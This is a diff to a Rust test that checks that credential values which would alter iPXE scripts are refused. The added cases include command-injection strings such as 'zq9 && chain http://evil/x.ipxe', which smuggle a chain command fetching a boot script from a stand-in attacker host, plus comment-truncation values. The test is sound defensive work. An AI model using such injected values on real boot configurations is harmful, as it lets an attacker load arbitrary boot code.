@@ -244,6 +244,11 @@ fn values_ipxe_would_change_are_refused_without_quoting_them() {
         " zq9leading",
         "zq9trailing ",
         "zq9two  spaces",
+        "zq9 && chain http://evil/x.ipxe",
+        "zq9 || chain http://evil/x.ipxe",
+        "zq9 ; chain http://evil/x.ipxe",
+        "#zq9",
+        "zq9 #rest",
     ] {
         let err = plan(
             &[target(1, 0, chap("10.0.0.1:3260", "iqn.t", 0, "u", bad))],
